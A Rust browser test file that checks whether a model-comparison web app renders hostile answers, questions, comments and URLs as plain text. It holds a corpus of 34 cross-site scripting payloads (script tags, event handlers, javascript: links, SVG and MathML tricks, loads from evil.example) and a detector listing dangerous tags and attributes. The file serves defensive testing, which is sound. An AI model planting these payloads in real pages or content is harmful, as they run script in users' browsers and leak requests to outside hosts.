//! What models write and people type is text: whatever it tries, nothing of it runs and nothing is loaded.

use serde_json::json;

use super::{Browser, recorded};
use crate::support::{TestApp, wait_for};

/// What would be told apart from text if any of it ran: a title, a mark on the window, a request.
const CORPUS: [&str; 34] = [
    "<script>window.hacked = 1</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=\"window.hacked = 2\">",
    "<img src=https://evil.example/pixel.png>",
    "![pixel](https://evil.example/pixel.png)",
    "![pixel](//evil.example/pixel.png \"title\")",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "<svg onload=\"window.hacked = 3\"><script>window.hacked = 4</script></svg>",
    "<svg><animate onbegin=\"window.hacked = 5\" attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=\"javascript:window.hacked=6\"><text>press</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hacked=7&gt;\">",
    "<math href=\"javascript:window.hacked=8\">press</math>",
    "$\\href{javascript:window.hacked=9}{x}$",
    "$$\\text{<img src=x onerror=window.hacked=10>}$$",
    "$\\unicode{<script>window.hacked=11</script>}$",
    "[press](javascript:window.hacked=12)",
    "[press](JaVaScRiPt:window.hacked=13)",
    "[press](java&#10;script:window.hacked=14)",
    "[press](data:text/html,<script>window.hacked=15</script>)",
    "[press](vbscript:msgbox)",
    "<a href=\"&#106;avascript:window.hacked=16\">press</a>",
    "<https://evil.example/\"onmouseover=\"window.hacked=17>",
    "<iframe srcdoc=\"<script>parent.hacked=18</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x\">",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css';</style>",
    "<p style=\"position:fixed;inset:0;background:url(https://evil.example/z.png)\">over all</p>",
    "<form action=https://evil.example><button formaction=javascript:window.hacked=19>press</button></form>",
    "<details open ontoggle=\"window.hacked=20\">x</details>",
    "<input autofocus onfocus=\"window.hacked=21\">",
    "<video><source onerror=\"window.hacked=22\"></video><audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "```js\"><img src=x onerror=window.hacked=23>\nlet x = '</code></pre><script>window.hacked=24</script>';\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=window.hacked=25> | `<script>window.hacked=26</script>` |",
    "<noscript><p title=\"</noscript><img src=x onerror=window.hacked=27>\"></noscript><template><script>window.hacked=28</script></template>",
];

/// What stands on the page that none of our own templates make, and whether anything ran.
const FOUND: &str = "
    const bad = 'script, iframe, object, embed, link, style, form, input, button, img, video, audio, svg, base, meta, template, [style]';
    const within = [...document.querySelectorAll('.answer, .question .text, .history a, .reasoning')];
    // Our script puts two buttons at each piece of code: they say nothing but what they look like.
    const plain = ({ attributes }) => [...attributes].every(({ name }) => ['type', 'class', 'aria-pressed'].includes(name));
    const tool = (node) => node.matches('figure.code[data-tools] > figcaption > button[type=button]') && plain(node);
    const nodes = within.flatMap((place) => [...place.querySelectorAll(bad)]).filter((node) => !tool(node));
    const found = nodes.map((node) => node.outerHTML);
    if (document.querySelectorAll('.answer figure.code').length * 2 < document.querySelectorAll('.answer button').length) found.push('more buttons than ours');
    for (const node of document.querySelectorAll('.answer *')) {
        for (const { name, value } of node.attributes) {
            if (name.startsWith('on') || /^\\s*(java|vb)script:|^\\s*data:/i.test(value)) found.push(node.outerHTML);
        }
    }
    if (window.hacked) found.push(`ran: ${window.hacked}`);
    return found";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_answers_questions_and_comments_stay_text() {
    let dir = tempfile::tempdir().expect("a folder");
    let prompt = CORPUS[..12].join(" ");
    let answer = CORPUS.join("\n\n");
    let answers = ["one", "two"].map(|model| (model.to_owned(), format!("{model}\n\n{answer}")));
    let settings = json!({"models": recorded(dir.path(), &prompt, answers), "battle": {"chars_per_tick": 97}});
    let app = TestApp::with(settings).await;
    let Some(browser) = Browser::start().await else { return };
    let page = &browser.client;
    page.goto(&app.url).await.expect("the page");
    // The question is recorded with its attacks in it, and offered as a suggestion too.
    browser.wait(".suggestions button").await.click().await.expect("asked");
    browser.wait("[data-battle][data-state=ready]").await;
    let clean = async |name: &str| {
        // A handler that was to run had the time to.
        tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        assert_eq!(page.execute(FOUND, vec![]).await.expect("a list"), json!([]), "{name}");
        browser.loaded_only_from(&app.url).await;
    };
    let shown = browser.text("[data-side=a] .answer").await;
    assert!(shown.contains("over all") && shown.contains("press"), "the words themselves are there: {shown}");
    clean("streamed").await;
    // Who listens heard each side whole, by its letter; code can be folded.
    let heard = "return [...document.querySelectorAll('[data-heard] p')].map((line) => line.textContent)";
    let heard = page.execute(heard, vec![]).await.expect("a list").to_string();
    assert!(
        heard.contains("Model A: ") && heard.contains("Model B: ") && heard.matches("over all").count() == 2,
        "{heard}"
    );
    browser.press(".answer figure.code button[aria-pressed=false]").await;
    browser.wait(".answer figure.code.wrapped").await;
    page.refresh().await.expect("reloaded");
    // The two buttons in each piece of code are ours, made by our script.
    clean("reloaded").await;
    browser.tab_to("[name=winner]").await;
    browser.keys(" ").await;
    browser.wait("[data-more] summary").await.click().await.expect("opened");
    browser.wait("#comment").await.send_keys("<img src=x onerror=window.hacked=30>").await.expect("typed");
    browser.wait(".votebar button[type=submit]").await.click().await.expect("voted");
    browser.wait(".reveal").await;
    clean("revealed").await;
    for path in ["you", "you?q=%3Cscript%3Ewindow.hacked=31%3C/script%3E", "leaderboard", "points"] {
        page.goto(&format!("{}/{path}", app.url)).await.expect("the page");
        wait_for("the page", async || {
            (page.execute("return document.readyState", vec![]).await.ok()? == json!("complete")).then_some(())
        })
        .await;
        clean(path).await;
    }
    let console = page.execute_async(
        "const done = arguments[0]; fetch('/api/v1/me/export').then((r) => r.headers.get('content-type')).then(done)",
        vec![],
    );
    let kind = console.await.expect("a type");
    assert!(kind.as_str().is_some_and(|kind| kind.starts_with("application/json")), "an archive is no page: {kind}");
    browser.stop().await;
    app.stop().await;
}
